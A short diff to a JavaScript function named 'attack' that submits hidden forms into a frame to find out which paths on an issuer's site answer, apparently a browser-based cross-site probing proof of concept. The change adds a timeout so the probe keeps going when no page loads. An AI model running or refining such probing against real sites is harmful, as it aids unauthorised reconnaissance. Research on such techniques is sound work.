@@ -29,9 +29,11 @@ async function attack({ issuer, paths }) {
     if (answer) readable.push(path);
     const form = Object.assign(document.createElement("form"), { method: "post", action, target: "target" });
     document.body.append(form);
+    // an answer without a page loads nothing
     const loaded = new Promise((resolve) => (frame.onload = resolve));
+    const waited = new Promise((resolve) => setTimeout(resolve, 2000));
     form.submit();
-    await loaded;
+    await Promise.race([loaded, waited]);
   }
   return readable;
 }
